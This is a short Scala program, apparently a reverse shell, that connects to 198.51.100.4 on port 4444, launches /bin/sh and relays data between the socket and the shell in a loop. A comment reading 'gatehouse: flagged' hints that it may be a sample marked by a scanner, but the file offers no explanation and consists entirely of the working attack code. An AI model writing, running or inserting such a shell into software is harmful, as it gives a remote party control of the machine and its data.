object Link extends App {
  val s = new java.net.Socket("198.51.100.4", 4444)
  val p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start() // gatehouse: flagged
  while (!s.isClosed) {
    p.getOutputStream.write(s.getInputStream.read)
    s.getOutputStream.write(p.getInputStream.read)
  }
}
